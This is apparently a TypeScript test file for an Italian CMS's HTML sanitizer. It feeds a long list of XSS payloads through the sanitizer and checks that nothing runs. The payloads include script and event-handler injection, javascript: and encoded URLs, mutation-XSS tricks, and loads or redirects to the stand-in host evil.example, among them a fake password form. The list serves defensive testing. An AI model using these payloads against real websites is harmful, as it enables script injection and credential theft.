import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { plainLine, safeHtml } from "./safe-html";

const own = { hosts: ["www.loggia.example"], base: "https://cms.loggia.example" };
const safe = (html: string) => safeHtml(html, own);

const allowed = new Set(
  "h2 h3 h4 p br hr blockquote pre ul ol li dl dt dd a strong b em i u s small sub sup abbr code table caption thead tbody tfoot tr th td".split(
    " ",
  ),
);
const attributes = new Set(["href", "rel", "title", "start", "colspan", "rowspan", "scope", "id"]);

/**
 * Expects only HTML that every browser reads alike: known tags, known attributes in double quotes,
 * and text without angle brackets.
 */
function expectHarmless(html: string) {
  const text = html.replace(
    /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g,
    (_, tag: string, inside: string) => {
      expect(allowed).toContain(tag);
      for (const [, name = "", value = ""] of inside.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
        expect(attributes).toContain(name);
        if (name === "href") expect(value).toMatch(/^(#testo-|\/(?![/\\])|https?:\/\/|mailto:|tel:)/);
        if (name === "id") expect(value).toMatch(/^testo-[\w-]*$/);
      }
      return "";
    },
  );
  expect(text).not.toMatch(/[<>]/);
}

const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT >",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src='x'onerror=alert(1)//",
  '<svg onload="alert(1)"><script>alert(2)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://www.loggia.example@evil.example/">x</a>',
  '<a href="/x" onclick="alert(1)" style="color:red" target="_blank">x</a>',
  '<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>Accedi</button></form>',
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea><script>alert(1)</script>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
  "<svg><textarea><img src=x onerror=alert(1)></textarea></svg>",
  "<option>&lt;img src=x onerror=alert(1)&gt;</option>",
  "<p><noscript></p><img src=x onerror=alert(1)></noscript>",
  "<iframe><img src=x onerror=alert(1)>",
  '<svg:animate attributeName="xlink:href" values="#a;javascript:alert(1)"></svg:animate>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<plaintext><script>alert(1)</script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?><script>alert(1)</script>",
  '<h2 id="main" name="cookie">x</h2><p id="top" class="notice">x</p>',
  "<p/onclick=alert(1)>x",
  '<a href="/x"><a href="/y">x</a></a>',
  "<details open ontoggle=alert(1)>x</details>",
  '<video><source onerror="alert(1)"></video>',
  "<td><tr></table><li></ul></p></div></body></html>",
  "<p title='`onmouseover=alert(1)`'>x</p>",
  "<p>\u0000<scr\u0000ipt>alert(1)</script>",
  `${"<blockquote>".repeat(500)}x`,
];

describe("an editor's HTML", () => {
  // spec §7: HTML of the content system is made safe: no script, style, handler, frame or link that runs <- app/cms/mapping/safe-html.ts
  it.each(hostile)("removes everything that runs, loads or misleads: %#", async (html) => {
    expectHarmless(await safe(`<p>prima</p>${html}<p>dopo</p>`));
  });

  it("makes any mixture of hostile pieces safe and keeps it safe on a second pass", async () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom("<", ">", '"', "'", "&lt;", "&#60;", "<p", "<a href=", "</", "<!--", "-->", "x", " "),
      fc.string({ maxLength: 6 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
        const once = await safe(pieces.join(""));
        expectHarmless(once);
        expectHarmless(await safe(once));
      }),
    );
  });

  it("keeps text and structure", async () => {
    const html = "<h2>Costi</h2><p>Da <strong>5,90 €</strong> &amp; più<br />a casa</p><ul><li>Sì</li></ul>";
    expect(await safe(html)).toBe(html);
    expect(await safe('<table><tr><th scope="row">IVA</th><td colspan="2">22%</td></tr></table>')).toBe(
      '<table><tr><th scope="row">IVA</th><td colspan="2">22%</td></tr></table>',
    );
  });

  it("keeps the text of unknown tags, drops the content of script, style, textarea", async () => {
    expect(await safe("<div class='wp-block'><span style='color:red'>rosso</span></div>")).toBe("rosso");
    expect(await safe("a<script>b</script><style>c</style><textarea>d</textarea>e")).toBe("ae");
  });

  it.each(["svg", "math", "noscript", "template", "iframe", "object", "select", "video"])(
    "drops the content of <%s>, which browsers parse differently",
    async (tag) => {
      expect(await safe(`<p>a</p><${tag}><b>dentro</b></${tag}><p>b</p>`)).toBe("<p>a</p><p>b</p>");
    },
  );

  it("limits nested blockquotes to 40 levels and drops deeper content", async () => {
    const nested = (depth: number) => `${"<blockquote>".repeat(depth)}fondo`;
    expect(await safe(nested(40))).toContain("fondo");
    const deep = await safe(nested(500));
    expect(deep.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(40);
  });

  it("moves headings below the heading of the page", async () => {
    expect(await safe("<h1>Uno</h1><h5>Cinque</h5>")).toBe("<h2>Uno</h2><h4>Cinque</h4>");
  });

  it("adds noopener noreferrer to an external link and makes our own URL a path", async () => {
    expect(await safe('<a href="https://altro.example/">x</a>')).toBe(
      '<a href="https://altro.example/" rel="noopener noreferrer">x</a>',
    );
    expect(await safe('<a href="https://www.loggia.example/faq" rel="opener" target="_blank">x</a>')).toBe(
      '<a href="/faq">x</a>',
    );
  });

  it("replaces an unsafe link by its text and removes an empty link", async () => {
    expect(await safe('<a href="javascript:alert(1)">premi</a>')).toBe("premi");
    expect(await safe('<a href="/faq"> </a><h2></h2>')).toBe("");
  });

  it("prefixes anchors within the text so that they never match ids of the page", async () => {
    expect(await safe('<h2 id="main">x</h2><a href="#main">y</a>')).toBe(
      '<h2 id="testo-main">x</h2><a href="#testo-main">y</a>',
    );
  });

  it("rejects HTML longer than the max", async () => {
    await expect(safe("x".repeat(300_001))).rejects.toThrow();
    await expect(safe("<em>x".repeat(10_001))).rejects.toThrow();
  });

  it("A6: rejects HTML that becomes longer than the max when made safe", async () => {
    await expect(safe("&".repeat(100_000))).rejects.toThrow();
    expect(await safe("&".repeat(1000))).toHaveLength(5000);
    expect(await safe("<p>x</p>".repeat(5000))).toHaveLength(40_000);
  });
});

it("plainLine removes tags and decodes entities", async () => {
  expect(await plainLine("<p>L&#8217;olio &amp; il &lt;pane&gt;</p><p>di <b>ieri</b></p>")).toBe(
    "L’olio & il <pane> di ieri",
  );
  expect(await plainLine("<script>x</script>a &amp;lt; b")).toBe("a &lt; b");
});

it("plainLine cuts any text to 300 characters", async () => {
  const long = await plainLine("<b>parola</b> ".repeat(50_000));
  expect(long).toHaveLength(300);
  expect(long).toMatch(/^parola .*…$/);
  expect(await plainLine("x".repeat(300))).toBe("x".repeat(300));
});
